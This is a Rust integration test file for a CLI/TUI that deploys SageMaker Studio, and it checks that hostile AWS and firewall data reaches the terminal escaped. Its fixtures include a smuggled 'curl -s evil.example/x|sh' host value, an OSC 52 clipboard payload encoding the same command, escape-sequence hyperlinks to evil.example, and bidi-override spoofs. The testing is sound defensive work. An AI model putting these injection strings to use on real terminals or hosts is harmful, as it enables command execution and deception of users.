//! Safe to point at hostile data (issue 29), run as a user would against the sandbox: what AWS
//! and the VPC send is shown escaped, never handed to the terminal, and a printed command never
//! carries a value the command would refuse; `--read-only` leaves every file alone; a declined
//! update keeps the run state it found; the files studio-tui writes are the user's alone and its
//! log never holds a bearer value; bad input is echoed escaped and cut.
//! (Its own test binary: the resource failure it injects is a setting of the whole emulator, so
//! the tests that deploy take turns.)

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test fails by panicking"
)]

mod common;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::Mutex;

use serde_json::{Value, json};

const REGION: &str = "us-east-1";

/// The tests that deploy take turns: one of them fails a resource emulator-wide.
static SERIAL: Mutex<()> = Mutex::new(());

fn serial() -> std::sync::MutexGuard<'static, ()> {
    SERIAL.lock().unwrap_or_else(|e| e.into_inner())
}

fn run(home: &Path, args: &[&str]) -> std::process::Output {
    run_in(home, REGION, args)
}

/// `up` runs preflight, which finds the default VPC range taken where another test deployed:
/// the tests that run `up` each have a region of their own.
fn run_in(home: &Path, region: &str, args: &[&str]) -> std::process::Output {
    common::binary(home, region).args(args).output().unwrap()
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// What a terminal would act on: C0 controls but the line break, DEL, C1 controls, bidi
/// controls.
fn assert_inert(what: &str, out: &str) {
    let bad: Vec<char> = out
        .chars()
        .filter(|c| {
            (c.is_control() && *c != '\n')
                || matches!(c, '\u{200e}' | '\u{200f}' | '\u{61c}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .collect();
    assert!(bad.is_empty(), "{what} printed raw {bad:?}:\n{out:?}");
}

fn deploy(home: &Path, project: &str) {
    let out = run(
        home,
        &["deploy", "--yes", "--plain", "--project-name", project],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
}

#[test]
fn hostile_blocked_hosts_are_shown_escaped_and_never_offered_as_a_command() {
    let _turn = serial();
    let emu = common::emulator();
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    let project = common::unique_name("hostile-fw");
    deploy(h, &project);
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let osc = "evil.example\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[2J\rpypi.org";
    let paste = "files.example;curl -s evil.example/x|sh;#";
    let bidi = "txt.\u{202e}exe.example\u{9b}31m";
    let rec = |host: &str, ago: u64| json!({"host": host, "kind": "tls", "src_ip": "10.2.3.10", "time": now - ago});
    let records = [
        rec(osc, 50),
        rec(osc, 40),
        rec(osc, 30),
        rec(paste, 20),
        rec(paste, 10),
        rec(bidi, 15),
        rec("mirror.example.org", 5),
    ];
    let written = emu.control_post(
        "/_studio/firewall-alerts",
        &json!({"stack": project, "records": records}),
    );
    assert_eq!(written["written"], 7, "{written}");

    let out = run(
        h,
        &["--plain", "firewall", "blocked", "--project-name", &project],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert_inert("firewall blocked (stdout)", &stdout);
    assert_inert("firewall blocked (stderr)", &stderr);
    let first = stdout.lines().next().unwrap_or_default();
    assert!(
        // (hosts are compared lowercased, as the firewall matches them)
        first.starts_with("evil.example\\u001b]52;c;y3vybcbldmlsfhno\\u0007\\u001b[2j\\rpypi.org"),
        "{stdout}"
    );
    assert!(
        stdout.contains("txt.\\u202eexe.example\\u009b31m"),
        "{stdout}"
    );
    // The hint names the most frequent host `firewall allow` accepts, and nothing else.
    assert!(
        stderr.contains("To allow one: studio-tui firewall allow mirror.example.org "),
        "{stderr}"
    );
    assert!(!stderr.contains("curl"), "{stderr}");

    // --json keeps the value exactly (JSON's own escapes).
    let out = run(
        h,
        &["--json", "firewall", "blocked", "--project-name", &project],
    );
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["domains"][0]["domain"], osc.to_lowercase());
}

#[test]
fn hostile_aws_reasons_are_escaped_in_deploy_events_status_and_up() {
    let _turn = serial();
    let emu = common::emulator();
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    // CloudFormation answers in XML, which carries line breaks, C1 controls and bidi overrides
    // (not ESC): a StatusReason can forge a line and reorder what it shows.
    let reason =
        "Limit reached\r\nCREATE_COMPLETE NATGateway all good \u{202e}gnp.exe \u{9b}2J \u{85}";
    let escaped = "all good \\u202egnp.exe \\u009b2J \\u0085";

    // A resource fails with that StatusReason: the root cause and every event line escape it.
    let failing = emu.settings(json!({"fail_resources": {"NATGateway": reason}}));
    let project = common::unique_name("hostile-cfn");
    let out = run(
        h,
        &["deploy", "--yes", "--plain", "--project-name", &project],
    );
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let stdout = text(&out.stdout);
    assert_inert("deploy", &stdout);
    assert_inert("deploy (stderr)", &text(&out.stderr));
    let root = stdout
        .lines()
        .find(|l| l.starts_with("Root cause:"))
        .unwrap_or_else(|| panic!("no root cause in {stdout}"));
    assert!(root.contains("Limit reached\\"), "{root}");
    assert!(root.contains(escaped), "{root}");
    assert!(
        !stdout.lines().any(|l| l.starts_with("CREATE_COMPLETE")),
        "a forged line: {stdout}"
    );
    let out = run(h, &["events", "--plain", "--project-name", &project]);
    let events = text(&out.stdout);
    assert_inert("events", &events);
    assert!(events.contains(escaped), "{events}");
    drop(failing);

    // SageMaker answers in JSON, which carries anything: ESC sequences (a hyperlink, a cursor
    // move), BEL, CR. A Studio domain fails with such a FailureReason: `up` and `status`.
    let reason = "no IPs\r\u{1b}[1A\u{1b}[2KInService \u{1b}]8;;https://evil.example\u{7}docs\u{1b}]8;;\u{7} \u{202e}gnp.exe";
    let escaped =
        "no IPs\\r\\u001b[1A\\u001b[2KInService \\u001b]8;;https://evil.example\\u0007docs";
    let project = common::unique_name("hostile-dom");
    let _domain = emu.settings(json!({"fail_domains": {project.clone(): reason}}));
    let region = "ap-northeast-1";
    let out = run_in(
        h,
        region,
        &["up", "--yes", "--plain", "--project-name", &project],
    );
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    assert_inert("up (stdout)", &text(&out.stdout));
    assert_inert("up (stderr)", &text(&out.stderr));
    assert!(text(&out.stderr).contains(escaped), "{}", text(&out.stderr));
    let out = run_in(
        h,
        region,
        &["status", "--plain", "--project-name", &project],
    );
    let status = text(&out.stdout);
    assert_inert("status", &status);
    assert!(status.contains(escaped), "{status}");
}

/// Every file under `root` with its bytes and mode.
fn files(root: &Path) -> BTreeMap<PathBuf, (Vec<u8>, u32)> {
    use std::os::unix::fs::PermissionsExt;
    let mut out = BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for e in entries {
            let path = e.unwrap().path();
            let meta = std::fs::metadata(&path).unwrap();
            if meta.is_dir() {
                stack.push(path);
            } else {
                let bytes = std::fs::read(&path).unwrap();
                out.insert(path, (bytes, meta.permissions().mode() & 0o777));
            }
        }
    }
    out
}

#[test]
fn read_only_runs_leave_every_saved_file_as_it_was() {
    let _turn = serial();
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    let project = common::unique_name("ro-keep");
    deploy(h, &project);
    let st = h.join("st");
    let before = files(&st);
    assert!(
        before.keys().any(|p| p.ends_with("answers.toml"))
            && before.keys().any(|p| p.ends_with("runs.json")),
        "{:?}",
        before.keys().collect::<Vec<_>>()
    );
    let other = common::unique_name("ro-other");
    let poison = ".amazonaws.com,.pypi.org,.ro-poison.example";
    let runs: [&[&str]; 7] = [
        &[
            "--read-only",
            "deploy",
            "--yes",
            "--allowed-domains",
            poison,
            "--project-name",
            &project,
        ],
        &[
            "--read-only",
            "up",
            "--yes",
            "--project-name",
            &other,
            "--users",
            "mallory",
        ],
        &[
            "--read-only",
            "firewall",
            "allow",
            "ro.example",
            "--yes",
            "--project-name",
            &project,
        ],
        &["--read-only", "status", "--project-name", &other],
        &["--read-only", "preflight", "--project-name", &other],
        &["--read-only", "users", "list", "--project-name", &project],
        &[
            "--read-only",
            "destroy",
            "--yes",
            "--project-name",
            &project,
        ],
    ];
    for args in runs {
        let out = run(h, args);
        assert!(out.status.code().is_some(), "{args:?}");
        let after = files(&st);
        let changed: Vec<_> = after
            .iter()
            .filter(|(p, v)| before.get(*p) != Some(*v))
            .map(|(p, _)| p.display().to_string())
            .chain(
                before
                    .keys()
                    .filter(|p| !after.contains_key(*p))
                    .map(|p| format!("{} (removed)", p.display())),
            )
            .collect();
        assert!(changed.is_empty(), "{args:?} wrote {changed:?}");
    }
    // The next plain run still works on the project and answers the user chose.
    let out = run(h, &["--json", "status"]);
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        doc["project"],
        project.as_str(),
        "the default project was switched"
    );
    let answers = std::fs::read_to_string(st.join("config/answers.toml")).unwrap();
    assert!(!answers.contains("ro-poison") && !answers.contains("mallory"));
}

/// The run state saved for a project, as `runs.json` has it.
fn saved_run(home: &Path, project: &str) -> Value {
    let text = std::fs::read_to_string(home.join("st/data/runs.json")).unwrap_or_default();
    let doc: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
    doc["runs"][format!("{REGION}/{project}")].clone()
}

#[test]
fn a_declined_or_refused_update_keeps_the_saved_run_state() {
    let _turn = serial();
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    let project = common::unique_name("keep-run");
    deploy(h, &project);
    let found = saved_run(h, &project);
    assert!(
        found["stack_id"].is_string() && found["client_request_token"].is_string(),
        "{found}"
    );

    // Without --yes and without a terminal, the update is refused (exit 2) and its change set
    // deleted; the stack id and the last operation's token stay.
    let out = common::binary(h, REGION)
        .args(["--plain", "deploy", "--project-name", &project])
        .args([
            "--allowed-domains",
            ".amazonaws.com,.pypi.org,.declined.example",
        ])
        .write_stdin("")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    let kept = saved_run(h, &project);
    assert_eq!(kept["stack_id"], found["stack_id"], "{kept}");
    assert_eq!(
        kept["client_request_token"], found["client_request_token"],
        "{kept}"
    );

    let out = common::binary(h, REGION)
        .args([
            "--plain",
            "firewall",
            "allow",
            "declined.example",
            "--project-name",
            &project,
        ])
        .write_stdin("")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    let kept = saved_run(h, &project);
    assert_eq!(kept["stack_id"], found["stack_id"], "{kept}");
    assert_eq!(
        kept["client_request_token"], found["client_request_token"],
        "{kept}"
    );
}

#[test]
fn files_are_owner_only_and_the_log_holds_no_bearer_value() {
    use std::os::unix::fs::PermissionsExt;
    let _turn = serial();
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    let project = common::unique_name("logs");
    let region = "eu-central-1";
    let out = run_in(
        h,
        region,
        &[
            "up",
            "--yes",
            "--plain",
            "--project-name",
            &project,
            "--users",
            "alice",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let token = "FwoGZXIvYXdzEJrSessionTokenForTheTest";
    let out = common::binary(h, region)
        .env("STUDIO_TUI_LOG", "trace")
        .env("AWS_SESSION_TOKEN", token)
        .args(["-vvv", "users", "url", "alice", "--project-name", &project])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let url = text(&out.stdout).trim().to_string();
    let secret = url
        .split("token=")
        .nth(1)
        .unwrap_or_else(|| panic!("{url}"));
    assert!(secret.len() > 8, "{url}");

    let st = h.join("st");
    let log = std::fs::read_to_string(st.join("data/studio-tui.log")).unwrap();
    assert!(
        log.contains("CreatePresignedDomainUrl"),
        "the trace was written"
    );
    assert!(!log.contains(secret), "the sign-in token is in the log");
    assert!(!log.contains(token), "the session token is in the log");
    assert!(
        !log.contains("Credential=testing/"),
        "the access key id is in the log"
    );
    assert!(log.contains("<redacted>"));

    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    for dir in ["config", "data"] {
        assert_eq!(mode(&st.join(dir)), 0o700, "{dir}");
    }
    for file in [
        "config/answers.toml",
        "data/runs.json",
        "data/studio-tui.log",
    ] {
        assert_eq!(mode(&st.join(file)), 0o600, "{file}");
    }
}

#[test]
fn bad_input_is_echoed_escaped_and_cut_and_nothing_is_saved() {
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    // An escape sequence in a flag.
    let out = run(
        h,
        &[
            "--plain",
            "deploy",
            "--project-name",
            "team\u{1b}]0;pwned\u{7}\u{1b}[2J",
        ],
    );
    assert_eq!(out.status.code(), Some(2));
    let err = text(&out.stderr);
    assert_inert("deploy with a bad name", &err);
    assert!(
        err.contains("team\\u001b]0;pwned\\u0007\\u001b[2J"),
        "{err}"
    );
    // A 100 KB name is not echoed whole.
    let long = "a".repeat(100_000);
    let out = run(h, &["--plain", "deploy", "--project-name", &long]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        out.stderr.len() < 8_000,
        "{} bytes of stderr",
        out.stderr.len()
    );
    assert!(text(&out.stderr).contains('…'));

    // --config: a user name that the flag would refuse is refused too, before anything is saved;
    // an unknown key with an escape in it is echoed escaped.
    let config = h.join("c.toml");
    std::fs::write(
        &config,
        "users = [\"bad;name\"]\n[parameters]\nproject_name = \"cfg-users\"\n",
    )
    .unwrap();
    let out = run(
        h,
        &[
            "--plain",
            "--config",
            config.to_str().unwrap(),
            "deploy",
            "--yes",
        ],
    );
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("bad;name"),
        "{}",
        text(&out.stderr)
    );
    assert!(
        !h.join("st/config/answers.toml").exists(),
        "the bad answers were saved"
    );
    std::fs::write(&config, "[parameters]\n\"vpc\\u001b[2J\" = \"x\"\n").unwrap();
    let out = run(
        h,
        &[
            "--plain",
            "--config",
            config.to_str().unwrap(),
            "deploy",
            "--yes",
        ],
    );
    assert_eq!(out.status.code(), Some(2));
    let err = text(&out.stderr);
    assert_inert("a bad config key", &err);
    assert!(err.contains("vpc\\u001b[2J"), "{err}");
}

/// A stack's parameter values are AWS's text (anyone who could update the stack chose them):
/// the wizard's form, filled from the deployed stack for an update, draws them escaped, with
/// the cursor where the escaped text puts it, and never hands a control character to the
/// terminal.
#[test]
fn hostile_deployed_parameters_fill_the_form_escaped() {
    use crossterm::event::KeyCode;
    use studio_tui::ui::app::App;
    let osc = "\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[2J\r";
    let hostile = [
        ("ProjectName", "sagemaker-studio-vpc"),
        ("VpcCIDR", "10.2.0.0/16"),
        ("FirewallSubnetCIDR", "10.2.1.0/24"),
        ("NATGatewaySubnetCIDR", "10.2.2.0/24"),
        ("SageMakerStudioSubnetCIDR", "10.2.3.0/24"),
        (
            "AllowedDomains",
            &*format!("iam.amazonaws.com,.pypi.org{osc},evil\u{202e}gro.example"),
        ),
        ("AllowedBuckets", &*format!("share{osc}")),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v.to_string()))
    .collect();
    let stack = studio_tui::aws::stacks::StackInfo {
        stack_id: "arn:aws:cloudformation:eu-west-1:123456789012:stack/sagemaker-studio-vpc/1"
            .into(),
        stack_name: "sagemaker-studio-vpc".into(),
        status: "UPDATE_COMPLETE".into(),
        status_reason: None,
        outputs: BTreeMap::new(),
        parameters: hostile,
        creation_time: None,
        last_updated_time: None,
    };
    let mut a = App::new(
        vec![],
        studio_tui::aws::SessionOptions {
            profile: None,
            region: Some("eu-west-1".into()),
            endpoint_url: None,
            fake_credentials: true,
            read_only: false,
        },
        false,
        studio_tui::ui::theme::Theme { color: false },
    );
    a.open_overview(stack);
    assert_inert("the overview", &common::draw(&a, 120, 40));
    // `d`: an update, the form filled from the deployed stack (preflight first).
    a.update(common::key(KeyCode::Char('d')));
    assert_inert("preflight of the update", &common::draw(&a, 120, 40));
    let form = studio_tui::ui::screens::params::ParamsState::new(
        &studio_tui::ops::params::over_deployed(&Default::default(), &a_deployed(osc), &[]),
        vec![],
    );
    let mut t = ratatui::Terminal::new(ratatui::backend::TestBackend::new(120, 40)).unwrap();
    t.draw(|f| form.render(f, f.area(), &studio_tui::ui::theme::Theme { color: false }))
        .unwrap();
    let screen = t.backend().to_string();
    assert_inert("the parameters form", &screen);
    assert!(
        screen.contains("share\\u001b]52;c;"),
        "the escape sequence is drawn as text: {screen}"
    );
    assert!(screen.contains("evil\\u202egro"), "{screen}");
}

fn a_deployed(osc: &str) -> BTreeMap<String, String> {
    [
        (
            "AllowedDomains",
            format!("iam.amazonaws.com,evil\u{202e}gro.example{osc}"),
        ),
        ("AllowedBuckets", format!("share{osc}")),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v))
    .collect()
}
